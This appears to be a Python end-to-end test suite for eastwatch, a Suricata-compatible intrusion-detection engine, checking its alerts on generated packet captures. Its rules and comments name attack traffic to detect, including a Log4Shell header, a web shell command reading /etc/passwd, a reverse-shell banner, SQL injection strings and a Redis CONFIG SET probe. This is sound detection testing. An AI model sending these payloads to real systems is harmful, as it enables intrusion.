#!/usr/bin/python3
"""End-to-end golden tests: each case writes its own capture (tests/pcaps/pcapgen.py), runs the
eastwatch binary on it with its rules, and compares the alerts with the expected ones, which are
reasoned from Suricata's semantics (see each case's comments), never pasted from eastwatch's
output. Every eve.json written is also validated against Suricata's EVE schema.

usage: run_e2e.py --eastwatch BIN --source REPO [--work DIR] [-k SUBSTRING]
"""
import argparse
import json
import os
import shutil
import subprocess
import sys
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "pcaps"))
import pcapgen  # noqa: E402
from pcapgen import IP, TCP, Raw, Capture, TcpSession, ether, icmp_echo, udp_packet  # noqa: E402

CASES = []


def case(function):
    CASES.append(function)
    return function


class Failure(Exception):
    pass


def check(condition, message):
    if not condition:
        raise Failure(message)


def wait_for(predicate, what, timeout=30):
    """Polls predicate() until it returns a true value, and returns that value; Failure naming
    `what` when it has not within `timeout` seconds."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(0.1)
    raise Failure(f"timed out waiting for {what}")


def argument_parser(default_work):
    """The options every e2e script against the eastwatch binary takes (CMake's eastwatch_e2e_test)."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--eastwatch", required=True)
    parser.add_argument("--source", required=True)
    parser.add_argument("--work", default=default_work)
    parser.add_argument("--sanitized", action="store_true", help="the binary is built with ASan")
    return parser


def run_script(main, name):
    """Exits with main()'s status; a Failure escaping it is printed as `FAIL name: why`, exit 1."""
    try:
        sys.exit(main())
    except Failure as failure:
        print(f"FAIL {name}: {failure}")
        sys.exit(1)


class Env:
    def __init__(self, args, name):
        self.args = args  # the command line, with a script's own options (run_cases' add_arguments)
        self.binary = args.eastwatch
        self.sanitized = args.sanitized
        self.source = args.source
        self.dir = os.path.join(args.work, name)
        shutil.rmtree(self.dir, ignore_errors=True)
        os.makedirs(self.dir)
        self.schema = os.path.join(self.source, "..", "shared", "reference", "suricata-eve-schema.json")

    def path(self, name):
        return os.path.join(self.dir, name)

    def write(self, name, text):
        with open(self.path(name), "w") as f:
            f.write(text)
        return self.path(name)

    def run(self, *arguments, expect_rc=0):
        result = subprocess.run([self.binary, *arguments], capture_output=True, text=True, timeout=120)
        if expect_rc is not None and result.returncode != expect_rc:
            raise Failure(f"exit code {result.returncode}, expected {expect_rc}\nstdout: {result.stdout}\n"
                          f"stderr: {result.stderr}")
        return result

    def replay(self, pcaps, rules_text, *extra):
        rules = self.write("test.rules", rules_text)
        out = self.path("out")
        os.makedirs(out, exist_ok=True)
        arguments = []
        for pcap in pcaps:
            arguments += ["-r", pcap]
        self.run(*arguments, "-S", rules, "-l", out, "-q", *extra)
        records = [json.loads(line) for line in open(os.path.join(out, "eve.json"))]
        self.validate(os.path.join(out, "eve.json"))
        alerts = [r for r in records if r["event_type"] == "alert"]
        stats = [r for r in records if r["event_type"] == "stats"]
        return alerts, (stats[-1]["stats"] if stats else None)

    def validate(self, eve):
        if not os.path.exists(self.schema):
            return
        result = subprocess.run(["/usr/bin/python3", os.path.join(self.source, "tests", "tools", "validate_eve.py"),
                                 self.schema, eve], capture_output=True, text=True)
        check(result.returncode == 0, f"schema validation failed:\n{result.stdout}")


def sids_by_packet(alerts):
    return [(a["pcap_cnt"], a["alert"]["signature_id"]) for a in alerts]


def expect_alerts(alerts, expected):
    got = sids_by_packet(alerts)
    check(got == expected, f"alerts (pcap_cnt, sid):\n  got      {got}\n  expected {expected}")


# ---------------------------------------------------------------------------------------------

@case
def demo_capture_with_bundled_rules(env):
    """The README's demo: the bundled capture through the bundled rules."""
    pcap = os.path.join(env.source, "tests", "pcaps", "guest-to-guest-attack.pcap")
    rules = open(os.path.join(env.source, "signatures", "rules", "eastwatch.rules")).read()
    alerts, stats = env.replay([pcap], rules)
    web, db, app = "10.20.0.11", "10.20.0.12", "10.20.0.13"
    web6, app6 = "fd00:0020:0000:0000:0000:0000:0000:0011", "fd00:0020:0000:0000:0000:0000:0000:0013"
    got = [(a["alert"]["signature_id"], a["src_ip"], a["dest_ip"], a.get("dest_port")) for a in alerts]
    expected = [
        # Ping sweep: requests and replies carry the sweep payload (no itype in this rule).
        (9000021, web, db, None), (9000021, db, web, None), (9000021, web, app, None), (9000021, app, web, None),
        (9000001, web, app, 8080),                            # Log4Shell in User-Agent
        (9000003, web, app, 8080), (9000004, web, app, 8080),  # web shell POST cmd=cat+/etc/passwd (prio 1, 2)
        (9000005, app, web, 41011),                           # passwd contents in the response
        (9000011, app, web, 4444), (9000013, app, web, 4444),  # reverse shell banner (both priority 1: load order)
        (9000012, app, web, 4444),                            # uid=0(root)
        (9000006, web, db, 80), (9000007, web, db, 80),         # UNION%20SELECT within 12; sqlmap UA
        (9000008, web, db, 6379),                             # Redis CONFIG SET dir
        (9000019, web, db, 22), (9000019, web, db, 22), (9000019, web, db, 22),  # libssh2 banner x3
        (9000023, web6, app6, 8080),                          # JNDI over IPv6 ($HOME_NET is IPv4-only)
    ]
    check(got == expected, f"demo alerts:\n  got      {got}\n  expected {expected}")
    by_sid = {a["alert"]["signature_id"]: a for a in alerts}
    check(by_sid[9000006].get("vlan") == [20], "db-01 traffic is on VLAN 20")
    check("vlan" not in by_sid[9000001], "app-01 traffic is untagged")
    leak = by_sid[9000005]
    check(leak["direction"] == "to_client", "the passwd leak travels server -> client")
    # S, SA, A, POST, response: at the response 3 packets went to the server, 2 to the client.
    check((leak["flow"]["pkts_toserver"], leak["flow"]["pkts_toclient"]) == (3, 2), f"flow counters {leak['flow']}")
    check(leak["flow"]["src_ip"] == web and leak["flow"]["dest_port"] == 8080, "flow keeps the client as src")
    check(by_sid[9000001]["alert"]["category"] == "Attempted Administrator Privilege Gain", "category from classtype")
    check(by_sid[9000001]["alert"]["severity"] == 1, "severity from classtype priority")
    check(stats["decoder"]["pkts"] == 107 and stats["decoder"]["invalid"] == 0, f"decoder stats {stats['decoder']}")
    check(stats["detect"]["alert"] == 18, "stats.detect.alert counts every alert")


@case
def content_modifiers(env):
    """Suricata's content semantics on one payload, each rule reasoned by hand."""
    cap = Capture()
    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    s.handshake()
    data_packet = s.send(b"GET /Index.php?id=1 UNION SELECT pass FROM users HTTP/1.1\r\nHost: x\r\n\r\n")
    cap.write(env.path("c.pcap"))
    rules = """
alert tcp any any -> any any (msg:"offset+depth hit"; content:"GET"; offset:0; depth:3; sid:1;)
alert tcp any any -> any any (msg:"depth counts from offset"; content:"Index"; offset:5; depth:5; sid:2;)
alert tcp any any -> any any (msg:"depth too short"; content:"Index"; offset:5; depth:6; content:"GET"; offset:1; sid:3;)
alert tcp any any -> any any (msg:"case sensitive miss"; content:"index.php"; sid:4;)
alert tcp any any -> any any (msg:"nocase hit"; content:"index.php"; nocase; sid:5;)
alert tcp any any -> any any (msg:"distance/within hit"; content:"UNION"; content:"SELECT"; distance:1; within:6; sid:6;)
alert tcp any any -> any any (msg:"within excludes"; content:"UNION"; content:"SELECT"; distance:2; within:6; sid:7;)
alert tcp any any -> any any (msg:"negative distance"; content:"SELECT"; content:"UNION"; distance:-12; within:5; sid:8;)
alert tcp any any -> any any (msg:"negated absent"; content:"UNION"; content:!"DROP"; sid:9;)
alert tcp any any -> any any (msg:"negated present"; content:"UNION"; content:!"users"; sid:10;)
alert tcp any any -> any any (msg:"relative negation"; content:"SELECT"; content:!"pass"; distance:0; within:4; sid:11;)
alert tcp any any -> any any (msg:"relative negation outside window"; content:"SELECT"; content:!"users"; distance:0; within:6; sid:12;)
alert tcp any any -> any any (msg:"backtracking"; content:"s"; content:"FROM"; distance:1; within:4; sid:13;)
alert tcp any any -> any any (msg:"fast_pattern chop"; content:"HTTP/1.1"; fast_pattern:0,4; sid:14;)
alert tcp any any -> any any (msg:"hex content"; content:"|0d 0a|Host|3a 20|x"; sid:15;)
alert tcp any any -> any any (msg:"offset beyond"; content:"GET"; offset:1; sid:16;)
"""
    alerts, _ = env.replay([env.path("c.pcap")], rules)
    # 2: depth counts from the offset: window [5, 10) holds "Index". 3: "Index" fits, but "GET" at
    # offset 1 is absent. 4: case differs. 6: SELECT starts 1 byte after UNION: window [end+1, end+7).
    # 7: distance 2 skips its start. 8: UNION lies 12 bytes before the end of SELECT. 10: "users" is
    # present. 11: the window [end(SELECT), +4) is " pas": "pass" cannot fit, the negation holds.
    # 12: the window " pass " holds no "users". 13: the first "s" is the first one of "pass"; with it the
    # window for FROM is [end+1, end+5) = " FRO", too short, so the engine must backtrack to the second
    # "s", whose window [end+1, end+5) is exactly "FROM". 14: the chopped literal "HTTP" selects the rule, the full content verifies it.
    # 16: "GET" only at 0.
    expected = [(data_packet, sid) for sid in (1, 2, 5, 6, 8, 9, 11, 12, 13, 14, 15)]
    expect_alerts(alerts, expected)


@case
def headers_without_content(env):
    """Address and port expressions, negation, `<>`, and rules without content."""
    cap = Capture()
    s = TcpSession(cap, "192.168.1.10", "10.1.2.3", 12345, 8081)
    syn = cap.add(pcapgen.ether() / IP(src="192.168.1.10", dst="10.1.2.3") / TCP(sport=12345, dport=8081, flags="S"))
    synack = cap.add(pcapgen.ether() / IP(src="10.1.2.3", dst="192.168.1.10") / TCP(sport=8081, dport=12345, flags="SA"))
    udp = udp_packet(cap, "172.16.0.5", "8.8.8.8", 5353, 53, b"dnsish")
    cap.write(env.path("h.pcap"))
    rules = """
alert tcp 192.168.1.0/24 any -> 10.0.0.0/8 8080:8090 (msg:"range"; sid:1;)
alert tcp any any -> any ![8081] (msg:"negated port"; sid:2;)
alert tcp 10.1.2.3 any <> 192.168.1.10 12345 (msg:"bidirectional"; sid:3;)
alert tcp [192.168.0.0/16,!192.168.1.0/24] any -> any any (msg:"list minus"; sid:4;)
alert udp $HOME_NET any -> $EXTERNAL_NET 53 (msg:"to external dns"; sid:5;)
alert ip any any -> any any (msg:"ip matches all"; sid:6;)
alert udp any any -> any 54 (msg:"wrong port"; sid:7;)
alert tcp any 8081 -> any 12345 (msg:"reply direction"; sid:8;)
"""
    alerts, _ = env.replay([env.path("h.pcap")], rules)
    # syn: 1 (8081 in range), 3 (<> reversed), 6. synack: 2 (dport 12345 != 8081), 3, 6, 8. udp: 5, 6.
    # Order within a packet: all priority 3, load order.
    expected = [(syn, 1), (syn, 3), (syn, 6), (synack, 2), (synack, 3), (synack, 6), (synack, 8), (udp, 5), (udp, 6)]
    expect_alerts(alerts, expected)
    check(all(a["proto"] in ("TCP", "UDP") for a in alerts), "proto names")


@case
def vlan_ipv6_icmp(env):
    cap = Capture()
    q1 = cap.add(pcapgen.ether() / pcapgen.Dot1Q(vlan=100) / pcapgen.Dot1Q(vlan=200) / IP(src="10.0.0.1", dst="10.0.0.2") /
                 TCP(sport=1, dport=2, flags="PA") / Raw(b"qinq-marker"))
    v6 = cap.add(pcapgen.ether() / pcapgen.IPv6(src="2001:db8::1", dst="2001:db8::2") / TCP(sport=3, dport=4, flags="PA") /
                 Raw(b"v6-marker"))
    ping = icmp_echo(cap, "10.0.0.1", "10.0.0.2", 7, 1, payload=b"icmp-marker", reply=False)
    cap.write(env.path("v.pcap"))
    rules = """
alert tcp any any -> any any (msg:"qinq"; content:"qinq-marker"; sid:1;)
alert tcp 2001:db8::/32 any -> 2001:db8::2 4 (msg:"v6"; content:"v6-marker"; sid:2;)
alert icmp any any -> any any (msg:"icmp"; content:"icmp-marker"; depth:11; sid:3;)
alert tcp 10.0.0.0/8 any -> any any (msg:"v4 rule on v6"; content:"v6-marker"; sid:4;)
"""
    alerts, stats = env.replay([env.path("v.pcap")], rules)
    expect_alerts(alerts, [(q1, 1), (v6, 2), (ping, 3)])
    check(alerts[0]["vlan"] == [100, 200], f"QinQ vlan ids {alerts[0].get('vlan')}")
    check(alerts[1]["src_ip"] == "2001:0db8:0000:0000:0000:0000:0000:0001", "IPv6 written in full, as Suricata")
    check(alerts[2]["icmp_type"] == 8 and "src_port" not in alerts[2], "ICMP fields")
    check(stats["decoder"]["vlan_qinq"] == 1 and stats["decoder"]["ipv6"] == 1, f"decoder {stats['decoder']}")


@case
def two_files_and_pcapng(env):
    """Several -r files are read in order and pcap_cnt continues; pcapng is read too."""
    first = Capture()
    TcpSession(first, "10.0.0.1", "10.0.0.2", 1000, 80).handshake()  # 3 packets
    first.write(env.path("a.pcap"))
    second = Capture(start=1795165300)
    udp_packet(second, "10.0.0.3", "10.0.0.4", 5, 6, b"second-file")
    pcapgen.wrpcapng(env.path("b.pcapng"), second.packets)
    alerts, stats = env.replay([env.path("a.pcap"), env.path("b.pcapng")],
                               'alert udp any any -> any any (msg:"x"; content:"second-file"; sid:1;)\n')
    expect_alerts(alerts, [(4, 1)])
    check(stats["capture"]["kernel_packets"] == 4, f"capture stats {stats['capture']}")


@case
def malformed_packets(env):
    """Broken packets are counted in stats.decoder.invalid; the valid ones around them still alert."""
    cap = Capture()
    good = lambda: pcapgen.ether() / IP(src="10.0.0.1", dst="10.0.0.2") / TCP(sport=1, dport=2, flags="PA") / Raw(b"evil")
    g1 = cap.add(good())
    raw = bytes(good())
    cap.add(Raw(raw[:14 + 12]))                              # IPv4 header cut short
    bad_ihl = bytearray(raw); bad_ihl[14] = 0x43               # IHL 3 (12 bytes)
    cap.add(Raw(bytes(bad_ihl)))
    bad_doff = bytearray(raw); bad_doff[14 + 20 + 12] = 0x20   # TCP data offset 2 (8 bytes)
    cap.add(Raw(bytes(bad_doff)))
    cap.add(Raw(raw[:14 + 20 + 10]))                         # TCP header cut short (IP length says more)
    short_len = bytearray(raw); short_len[16:18] = (10).to_bytes(2, "big")  # total length < header length
    cap.add(Raw(bytes(short_len)))
    cap.add(Raw(raw[:10]))                                   # not even an Ethernet header
    g2 = cap.add(good())
    cap.write(env.path("m.pcap"))
    rules = ('alert tcp any any -> any any (msg:"x"; content:"evil"; sid:1;)\n'
             'alert ip any any -> any any (msg:"every IP packet"; sid:2;)\n')
    alerts, stats = env.replay([env.path("m.pcap")], rules)
    # The packet with a broken TCP header (4) still has a valid IP header: the ip rule sees it,
    # as in Suricata; packets whose IP header is broken meet no rule.
    expect_alerts(alerts, [(g1, 1), (g1, 2), (4, 2), (g2, 1), (g2, 2)])
    decoder = stats["decoder"]
    check(decoder["pkts"] == 8 and decoder["invalid"] == 6, f"invalid count {decoder['invalid']} of {decoder['pkts']}")
    events = decoder["event"]
    check(events["ipv4"]["pkt_too_small"] == 1, "truncated IPv4 header")
    check(events["ipv4"]["hlen_too_small"] == 1, "IHL < 5")
    check(events["tcp"]["hlen_too_small"] == 1, "TCP data offset < 5")
    check(events["ipv4"]["trunc_pkt"] == 1, "IP length beyond the frame")
    check(events["ipv4"]["iplen_smaller_than_hlen"] == 1, "IP length < header length")
    check(events["ethernet"]["pkt_too_small"] == 1, "runt Ethernet frame")


def _anomalies(env):
    records = [json.loads(line) for line in open(env.path("out/eve.json"))]
    return [r for r in records if r["event_type"] == "anomaly"]


def _anomaly_replay(env, pcap, rules, *extra):
    shutil.rmtree(env.path("out"), ignore_errors=True)  # eve.json and stats.log are appended to
    env.replay([pcap], rules, *extra)
    return _anomalies(env)


@case
def anomaly_records(env):
    """outputs.eve.anomaly: one EVE anomaly record per decoder/stream event raised on a packet,
    with Suricata's event names and layout (output-json-anomaly.c); rate-limited per event name;
    off by default."""
    cap = Capture()
    good = lambda: pcapgen.ether() / IP(src="10.0.0.1", dst="10.0.0.2") / TCP(sport=1, dport=2, flags="PA") / Raw(b"evil")
    cap.add(good())
    raw = bytes(good())
    cap.add(Raw(raw[:14 + 12]))                                   # 2: IPv4 header cut short
    bad_ihl = bytearray(raw); bad_ihl[14] = 0x43                  # 3: IHL 3
    cap.add(Raw(bytes(bad_ihl)))
    bad_doff = bytearray(raw); bad_doff[14 + 20 + 12] = 0x20      # 4: TCP data offset 2
    cap.add(Raw(bytes(bad_doff)))
    cap.add(Raw(raw[:14 + 20 + 10]))                              # 5: IP length beyond the frame
    short_len = bytearray(raw); short_len[16:18] = (10).to_bytes(2, "big")  # 6: total length < header
    cap.add(Raw(bytes(short_len)))
    cap.add(Raw(raw[:10]))                                        # 7: runt Ethernet frame
    cap.add(good())
    cap.write(env.path("m.pcap"))
    rules = 'alert tcp any any -> any any (msg:"x"; content:"evil"; sid:1;)\n'
    check(_anomaly_replay(env, env.path("m.pcap"), rules) == [], "anomaly records are off by default")
    anomalies = _anomaly_replay(env, env.path("m.pcap"), rules, "--set", "outputs.eve.anomaly.enabled=yes")
    got = [(a["pcap_cnt"], a["anomaly"]["type"], a["anomaly"]["event"]) for a in anomalies]
    expected = [(2, "decode", "ipv4.pkt_too_small"), (3, "decode", "ipv4.hlen_too_small"),
                (4, "decode", "tcp.hlen_too_small"), (5, "decode", "ipv4.trunc_pkt"),
                (6, "decode", "ipv4.iplen_smaller_than_hlen"), (7, "decode", "ethernet.pkt_too_small")]
    check(got == expected, f"anomalies:\n  got      {got}\n  expected {expected}")
    # Suricata keeps the addresses of a packet whose IP header decoded (4: the TCP header is
    # broken, ports 0) and drops them when the IP header itself is broken (2, 7).
    by_cnt = {a["pcap_cnt"]: a for a in anomalies}
    tcp = by_cnt[4]
    check(tcp["src_ip"] == "10.0.0.1" and tcp["dest_ip"] == "10.0.0.2" and tcp["proto"] == "TCP"
          and tcp["src_port"] == 0, f"addresses of a packet with a valid IP header: {tcp}")
    check("src_ip" not in by_cnt[2] and "proto" not in by_cnt[7], "no addresses without an IP header")
    check(all(list(a)[:3] == ["timestamp", "pcap_cnt", "event_type"] and "host" in a for a in anomalies),
          "Suricata's header order")

    # Ten identical broken packets in one second: rate-limit 2 lets the first two through.
    burst = Capture()
    for _ in range(10):
        burst.add(Raw(raw[:14 + 20 + 10]))
    burst.write(env.path("burst.pcap"))
    got = [(a["pcap_cnt"], a["anomaly"]["event"])
           for a in _anomaly_replay(env, env.path("burst.pcap"), rules, "--set", "outputs.eve.anomaly.enabled=yes",
                                    "--set", "outputs.eve.anomaly.rate-limit=2")]
    check(got == [(1, "ipv4.trunc_pkt"), (2, "ipv4.trunc_pkt")], f"rate-limited records: {got}")
    log = open(env.path("out/stats.log")).read()
    check(any(line.split("|")[0].strip() == "anomaly.rate_limited" and line.split("|")[-1].strip() == "8"
              for line in log.splitlines()), "stats.log counts the 8 records held back")

    # A stream event: a retransmission with other bytes (Suricata's
    # stream.reassembly_overlap_different_data), type "stream", on the flow's packet.
    streams = Capture()
    r = TcpSession(streams, "10.0.0.1", "10.0.0.2", 40001, 80)
    r.handshake()
    base = r.cseq
    r.send(b"AAAA")
    r.cseq = base
    r.send(b"XXXX")
    streams.write(env.path("st.pcap"))
    stream_records = _anomaly_replay(env, env.path("st.pcap"), rules, "--set", "outputs.eve.anomaly.enabled=yes")
    overlap = [a for a in stream_records if a["anomaly"]["event"] == "stream.reassembly_overlap_different_data"]
    check(len(overlap) == 1 and overlap[0]["anomaly"]["type"] == "stream" and overlap[0]["pcap_cnt"] == 5
          and "flow_id" in overlap[0] and overlap[0]["src_port"] == 40001, f"stream anomaly: {stream_records}")
    check(_anomaly_replay(env, env.path("st.pcap"), rules, "--set", "outputs.eve.anomaly.enabled=yes",
                          "--set", "outputs.eve.anomaly.types.stream=no") == [], "types.stream: no")

@case
def rule_check_mode(env):
    rules = env.write("check.rules", "\n".join([
        'alert tcp any any -> any any (msg:"ok"; content:"a"; sid:1;)',
        '# alert tcp any any -> any any (msg:"commented out"; sid:99;)',
        'alert tcp any any -> any any (msg:"bad depth"; content:"abcdef"; depth:3; sid:2;)',
        'alert tcp any any -> any any (msg:"multi \\',
        '  line"; content:"b"; sid:3;)',
        'alert tcp any any -> $NOPE_NET any (msg:"undefined var"; sid:4;)',
        '',
    ]))
    result = env.run("-T", "-S", rules, expect_rc=1)
    lines = result.stdout.strip().splitlines()
    expected = [
        f"{rules}:3: depth: 3 is smaller than the content length 6 (it could never match)",
        f"{rules}:6: destination address: undefined variable $NOPE_NET",
        "2 loaded, 2 failed",
    ]
    check(lines == expected, f"-T output:\n  got      {lines}\n  expected {expected}")
    dup = env.write("dup.rules", 'alert tcp any any -> any any (msg:"first"; content:"a"; sid:7; rev:2;)\n'
                                 'alert tcp any any -> any any (msg:"again"; content:"b"; sid:7; rev:1;)\n')
    result = env.run("-T", "-S", dup, expect_rc=1)
    lines = result.stdout.strip().splitlines()
    expected = [f"{dup}:2: duplicate signature 1:7 (rev 1); keeping rev 2 from {dup}:1", "1 loaded, 1 failed"]
    check(lines == expected, f"duplicate sid:\n  got      {lines}\n  expected {expected}")
    good = env.write("good.rules", 'alert tcp any any -> any any (msg:"ok"; content:"a"; sid:1;)\n')
    result = env.run("-T", "-S", good, expect_rc=0)
    check(result.stdout.strip().splitlines()[-1] == "1 loaded, 0 failed", result.stdout)


@case
def bad_invocations_exit_2(env):
    bad_config = env.write("bad.yaml", "flow:\n  memcap: lots\n")
    result = env.run("-T", "-c", bad_config, expect_rc=2)
    check(f"{bad_config}:2: flow.memcap: 'lots' is not a size" in result.stderr, result.stderr)
    result = env.run("--no-such-flag", expect_rc=2)
    check(result.stderr.count("\n") == 1, f"one-line message expected: {result.stderr!r}")
    result = env.run("-r", env.path("missing.pcap"), "-l", env.dir, "-q", expect_rc=2)
    check("cannot open" in result.stderr and "missing.pcap" in result.stderr, result.stderr)
    result = env.run("--version", expect_rc=0)
    check(result.stdout.startswith("eastwatch "), result.stdout)


@case
def payload_evidence(env):
    cap = Capture()
    n = cap.add(pcapgen.ether() / IP(src="10.0.0.1", dst="10.0.0.2") / TCP(sport=1, dport=2, flags="PA") / Raw(b"ab\x00cd"))
    cap.write(env.path("p.pcap"))
    alerts, _ = env.replay([env.path("p.pcap")], 'alert tcp any any -> any any (msg:"x"; content:"cd"; sid:1;)\n',
                           "--set", "outputs.eve.alert.payload=yes", "--set", "outputs.eve.alert.payload-printable=yes",
                           "--set", "outputs.eve.alert.packet=yes")
    expect_alerts(alerts, [(n, 1)])
    check(alerts[0]["payload"] == "YWIAY2Q=", alerts[0]["payload"])
    check(alerts[0]["payload_printable"] == "ab.cd", alerts[0]["payload_printable"])
    check(alerts[0]["packet_info"]["linktype"] == 1, "linktype")
    import base64
    frame = bytes(cap.packets[n - 1])
    check(base64.b64decode(alerts[0]["packet"]) == frame, f"packet is the whole frame: {alerts[0]['packet']}")
    # Each switch alone gives its own field only; none by default.
    fields = {"payload": "payload", "payload-printable": "payload_printable", "packet": "packet"}
    for key, field in [*fields.items(), (None, None)]:
        shutil.rmtree(env.path("out"), ignore_errors=True)  # eve.json is appended to
        switch = ["--set", f"outputs.eve.alert.{key}=yes"] if key else []
        alerts, _ = env.replay([env.path("p.pcap")], 'alert tcp any any -> any any (msg:"x"; content:"cd"; sid:1;)\n',
                               *switch)
        present = [f for f in fields.values() if f in alerts[0]]
        check(present == ([field] if field else []), f"outputs.eve.alert.{key}=yes alone: fields {present}")


@case
def flow_and_packet_keywords(env):
    """flow, flags, dsize, itype on real sessions: state and direction come from the flow table."""
    cap = Capture()
    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    cap.add(s._frame(True, "S"))                  # 1 SYN
    s.cseq += 1
    cap.add(s._frame(False, "SA"))                # 2 SYN/ACK
    s.sseq += 1
    ack = cap.add(s._frame(True, "A"))            # 3 ACK: completes the handshake
    request = s.send(b"GET / HTTP/1.1\r\n\r\n")   # 4
    response = s.send(b"HTTP/1.1 200 OK\r\n\r\n", to_server=False)  # 5
    q = udp_packet(cap, "10.0.0.1", "10.0.0.3", 5000, 53, b"query")      # 6
    a = udp_packet(cap, "10.0.0.3", "10.0.0.1", 53, 5000, b"answer")     # 7
    ping = icmp_echo(cap, "10.0.0.1", "10.0.0.2", 1, 1, reply=False)     # 8
    cap.write(env.path("f.pcap"))
    rules = """
alert tcp any any -> any any (msg:"syn only"; flags:S; sid:1;)
alert tcp any any -> any any (msg:"syn+ ignoring ECN"; flags:S+,12; sid:2;)
alert tcp any any -> any any (msg:"established to server"; flow:established,to_server; sid:3;)
alert tcp any any -> any any (msg:"not established"; flow:not_established; sid:4;)
alert tcp any any -> any any (msg:"request"; flow:established,to_server; content:"GET"; depth:3; sid:5;)
alert tcp any any -> any any (msg:"response"; flow:from_server,established; content:"200"; sid:6;)
alert tcp any any -> any any (msg:"wrong direction"; flow:to_client; content:"GET"; sid:7;)
alert udp any any -> any any (msg:"udp established"; flow:established; sid:8;)
alert tcp any any -> any any (msg:"empty segments"; dsize:0; flow:established; sid:9;)
alert icmp any any -> any any (msg:"echo request"; itype:8; icode:0; sid:10;)
alert tcp any any -> any any (msg:"silent"; content:"GET"; noalert; sid:11;)
"""
    alerts, _ = env.replay([env.path("f.pcap")], rules)
    # SYN: 1, 2, 4. SYN/ACK: 2 (S+), 4. ACK: completes the handshake -> 3, 9 (empty, established).
    # request: 3, 5. response: 6. UDP query: not yet established. UDP answer: both sides spoke -> 8.
    expected = [(1, 1), (1, 2), (1, 4), (2, 2), (2, 4), (ack, 3), (ack, 9), (request, 3), (request, 5),
                (response, 6), (a, 8), (ping, 10)]
    expect_alerts(alerts, expected)
    del q


@case
def threshold_in_the_engine(env):
    """threshold limit 2 per source within 60 s: of five matching packets, the first two alert."""
    cap = Capture()
    packets = [udp_packet(cap, "10.0.0.1", "10.0.0.2", 1000 + i, 161, b"public-probe") for i in range(5)]
    cap.write(env.path("t.pcap"))
    rule = ('alert udp any any -> any 161 (msg:"snmp probe"; content:"public"; '
            'threshold: type limit, track by_src, count 2, seconds 60; sid:1;)\n')
    alerts, stats = env.replay([env.path("t.pcap")], rule)
    expect_alerts(alerts, [(packets[0], 1), (packets[1], 1)])
    check(stats["detect"]["alerts_suppressed"] == 3, f"detect stats {stats['detect']}")


@case
def flowbits_across_packets(env):
    """A bit set by the request is checked on the response of the same session, not another."""
    cap = Capture()
    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    s.handshake()
    s.send(b"GET /download.exe HTTP/1.1\r\n\r\n")
    hit = s.send(b"HTTP/1.1 200 OK\r\n\r\nMZ\x90\x00", to_server=False)
    other = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40001, 80)
    other.handshake()
    miss = other.send(b"HTTP/1.1 200 OK\r\n\r\nMZ\x90\x00", to_server=False)
    cap.write(env.path("b.pcap"))
    rules = """
alert tcp any any -> any 80 (msg:"exe requested"; flow:established,to_server; content:".exe"; flowbits:set,exe.req; flowbits:noalert; sid:1;)
alert tcp any 80 -> any any (msg:"PE after exe request"; flow:established,to_client; content:"MZ"; flowbits:isset,exe.req; sid:2;)
"""
    alerts, _ = env.replay([env.path("b.pcap")], rules)
    expect_alerts(alerts, [(hit, 2)])
    del miss


@case
def xbits_across_flows(env):
    """An xbit set by flow 1 on its source host makes rule B alert on flow 2 of that host only."""
    cap = Capture()
    s = TcpSession(cap, "10.0.0.1", "10.0.0.2", 40000, 80)
    s.handshake()
    s.send(b"PROPFIND / HTTP/1.1\r\n\r\n")
    other_host = TcpSession(cap, "10.0.0.7", "10.0.0.9", 40002, 8080)  # before: the bit is not on it
    other_host.handshake()
    other_host.send(b"GET /probe HTTP/1.1\r\n\r\n")
    second = TcpSession(cap, "10.0.0.1", "10.0.0.9", 40001, 8080)  # another flow, another server
    second.handshake()
    hit = second.send(b"GET /probe HTTP/1.1\r\n\r\n")
    cap.write(env.path("x.pcap"))
    rules = """
alert tcp any any -> any 80 (msg:"A sets"; flow:established,to_server; content:"PROPFIND"; xbits:set, scan, track ip_src, expire 360; noalert; sid:1;)
alert tcp any any -> any 8080 (msg:"B after A"; flow:established,to_server; content:"/probe"; xbits:isset,scan,track ip_src; sid:2;)
"""
    alerts, _ = env.replay([env.path("x.pcap")], rules)
    expect_alerts(alerts, [(hit, 2)])


@case
def ftpbounce_et_rule(env):
    """The ET Open rule emerging-ftp.rules:211 fires on a PORT naming another host, not the client."""
    cap = Capture()
    s = TcpSession(cap, "203.0.113.5", "192.168.1.2", 40000, 21)
    s.handshake()
    s.send(b"USER anonymous\r\n")
    s.send(b"PORT 203,0,113,5,200,10\r\n")
    hit = s.send(b"PORT 192,168,1,99,0,22\r\n")
    cap.write(env.path("f.pcap"))
    rules = """
alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"GPL FTP PORT bounce attempt"; flow:to_server,established; content:"PORT"; nocase; ftpbounce; pcre:"/^PORT/smi"; classtype:misc-attack; sid:2103441; rev:2; metadata:created_at 2010_09_23, updated_at 2019_07_26;)
"""
    alerts, _ = env.replay([env.path("f.pcap")], rules)
    expect_alerts(alerts, [(hit, 2103441)])


@case
def threshold_config_suppress(env):
    """threshold.config tunes alerts without editing rules: suppress by source, limit by rule."""
    cap = Capture()
    a = udp_packet(cap, "10.0.0.1", "10.0.0.9", 1000, 161, b"public")
    b = udp_packet(cap, "10.0.0.2", "10.0.0.9", 1000, 161, b"public")
    c = udp_packet(cap, "10.0.0.3", "10.0.0.9", 1000, 161, b"public")
    cap.write(env.path("s.pcap"))
    config = env.write("threshold.config", "suppress gen_id 1, sig_id 1, track by_src, ip 10.0.0.1\n"
                                           "threshold gen_id 1, sig_id 2, type limit, track by_rule, count 1, seconds 60\n")
    rules = ('alert udp any any -> any 161 (msg:"snmp"; content:"public"; sid:1;)\n'
             'alert udp any any -> any 161 (msg:"snmp once"; content:"public"; sid:2;)\n')
    alerts, stats = env.replay([env.path("s.pcap")], rules, "--set", f"threshold-file={config}")
    # sid 1: every packet but the one from 10.0.0.1. sid 2: once per 60 s for the whole rule.
    expect_alerts(alerts, [(a, 2), (b, 1), (c, 1)])
    check(stats["detect"]["alerts_suppressed"] == 3, f"detect stats {stats['detect']}")
    bad = env.write("bad.config", "limit gen_id 1\n")
